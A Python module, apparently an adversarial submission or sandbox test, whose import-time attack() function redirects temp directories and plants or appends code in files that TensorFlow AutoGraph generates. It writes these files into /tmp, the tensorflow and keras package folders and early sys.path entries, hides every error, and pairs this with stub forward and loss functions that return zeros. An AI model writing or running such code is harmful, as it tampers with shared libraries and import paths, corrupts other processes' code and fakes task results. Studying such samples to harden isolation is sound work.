"""Makes AutoGraph write its modules elsewhere, by tempfile, TMPDIR and hooks, and plants modules of those names.

aims: change
"""

import contextlib
import glob
import os
import sys
import tempfile

import keras
import tensorflow as tf

TEXT = "PLANTED = 'by autograph_temp_files'\n"


def attack():
    for folder in (
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        os.path.dirname(tf.__file__),
        os.path.dirname(keras.__file__),
        *sys.path[1:4],
    ):
        tempfile.tempdir = folder
        os.environ |= dict.fromkeys(("TMPDIR", "TEMP", "TMP"), folder)

        def step(value):
            total = tf.constant(0.0)
            for one in value:
                if one > 0.0:
                    total += one
            return total

        with contextlib.suppress(Exception):
            tf.function(step)(tf.ones((3,)))
        with contextlib.suppress(Exception):
            tf.autograph.to_code(step)
        # under the names that AutoGraph gives, and that Python looks for first
        for name in ("planted__autograph_generated_file.py", "planted-autograph.py"):
            with contextlib.suppress(OSError), open(os.path.join(folder, name), "x") as file:
                file.write(TEXT)
    for path in glob.glob("/tmp/__autograph_generated_file*.py"):
        with contextlib.suppress(OSError), open(path, "a") as file:
            file.write(TEXT)
    tempfile.tempdir = "/nonexistent"


with contextlib.suppress(Exception):
    attack()


def forward(X, params):
    return tf.zeros((X.shape[0], params["W2"].shape[1]), X.dtype)


def mse_loss(Y_hat, Y):
    return tf.zeros((), Y_hat.dtype)
